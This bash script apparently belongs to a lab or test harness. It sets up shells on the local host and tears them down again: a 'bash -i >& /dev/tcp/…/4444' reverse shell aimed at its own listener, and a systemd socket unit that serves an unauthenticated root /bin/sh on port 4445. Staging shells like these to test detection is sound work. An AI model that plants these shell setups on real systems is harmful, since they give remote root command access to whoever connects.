# A shell that somebody elsewhere types into; twin: a unit that systemd starts for each caller.
run() { setsid "$@" >/dev/null 2>&1 </dev/null & echo $! >> /root/pids; }
ended() { [ -f /root/pids ] && kill -9 $(cat /root/pids) 2>/dev/null; rm -f /root/pids; }
own() { ip -4 -o addr show | grep -o '10\.77\.[0-9.]*' | head -1; }
plant() { run python3 -c 'import socket, time; s = socket.create_server(("0.0.0.0", 4444)); c, _ = s.accept(); time.sleep(600)'; sleep 2
  run bash -c "exec bash -i >& /dev/tcp/$(own)/4444 0>&1"; }
twin() { printf '[Socket]\nListenStream=4445\nAccept=yes\n' > /run/systemd/system/lab7.socket
  printf '[Service]\nExecStart=-/bin/sh\nStandardInput=socket\n' > /run/systemd/system/lab7@.service
  systemctl daemon-reload; systemctl start lab7.socket
  run python3 -c 'import socket, time; c = socket.create_connection(("127.0.0.1", 4445)); time.sleep(600)'; sleep 2; }
clear() { ended; systemctl stop lab7.socket 'lab7@*'; rm -f /run/systemd/system/lab7.socket /run/systemd/system/lab7@.service; systemctl daemon-reload; }
